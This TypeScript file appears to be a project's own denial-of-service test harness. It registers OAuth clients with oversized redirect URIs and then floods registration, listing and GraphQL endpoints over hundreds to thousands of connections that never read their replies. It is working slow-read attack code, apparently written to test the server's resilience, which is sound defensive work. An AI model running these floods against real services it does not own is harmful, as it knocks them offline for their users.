import { fileURLToPath } from 'node:url';
import { attack, type Attack, holdConnections } from './attack.js';
import { AS_ADMIN, CLIENT, JSON_BODY } from './requests.js';

/** Near the most that a request may hold. */
const LARGE_URIS = Array.from({ length: 30 }, (_, i) => `https://example.com/${i}/${'x'.repeat(1_970)}`);

async function send(url: string, body: object, headers: Record<string, string> = {}) {
  const response = await fetch(url, {
    method: 'POST',
    headers: { ...JSON_BODY, ...headers },
    body: JSON.stringify(body),
  });
  if (!response.ok) throw new Error(`${response.status}: ${await response.text()}`);
  return (await response.json()) as Record<string, string>;
}

async function registerLarge(url: string): Promise<string> {
  const body = await send(`${url}/v2/oauth/register`, { redirect_uris: LARGE_URIS });
  const path = new URL(body.registration_client_uri!).pathname;
  return `GET ${path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${body.registration_access_token}\r\n\r\n`;
}

async function createLarge(url: string): Promise<void> {
  for (let i = 0; i < 100; i++) {
    await send(`${url}/v2/oauth/clients`, { ...CLIENT, redirect_uris: LARGE_URIS }, AS_ADMIN);
  }
}

/** Sends on each connection, and reads nothing. */
const unread =
  (connections: number, requests: number, rate = 500): Attack<string>['run'] =>
  (target, request) =>
    holdConnections(target, connections, rate, (socket) => {
      socket.pause();
      socket.write(request.repeat(requests));
    });

const list = (size: number) =>
  `GET /v2/oauth/clients?page%5Bsize%5D=${size} HTTP/1.1\r\nHost: x\r\nAuthorization: ${AS_ADMIN.authorization}\r\n\r\n`;

const GRAPHQL_BODY = JSON.stringify({ query: '{ oauthClients(first: 100) { nodes { redirectUris } } }' });
const graphql =
  `POST /graphql HTTP/1.1\r\nHost: x\r\nAuthorization: ${AS_ADMIN.authorization}\r\nContent-Type: application/json\r\n` +
  `Content-Length: ${GRAPHQL_BODY.length}\r\n\r\n${GRAPHQL_BODY}`;

const afterCreating = (request: string) => async (url: string) => {
  await createLarge(url);
  return request;
};

/** `npm run attack:unread-replies`: callers that request large replies, and do not read them. */
await attack<string>(fileURLToPath(import.meta.url), {
  'a registration, 200 requests at once on 40 connections': { prepare: registerLarge, run: unread(40, 200) },
  'a registration, one request on each of 3,000 connections': {
    prepare: registerLarge,
    run: unread(3_000, 1),
  },
  'pages, 60 requests at once on 4 connections': {
    prepare: afterCreating(list(100)),
    run: unread(4, 60),
  },
  'pages of 24, one request on each of 1,000 connections': {
    prepare: afterCreating(list(24)),
    run: unread(1_000, 1),
  },
  'GraphQL, one request on each of 1,000 connections': {
    prepare: afterCreating(graphql),
    run: unread(1_000, 1),
  },
  'small requests, as many as fit into a connection': {
    prepare: () => Promise.resolve('GET / HTTP/1.1\r\n\r\n'),
    run: unread(1_000, 5_000, 20),
  },
});
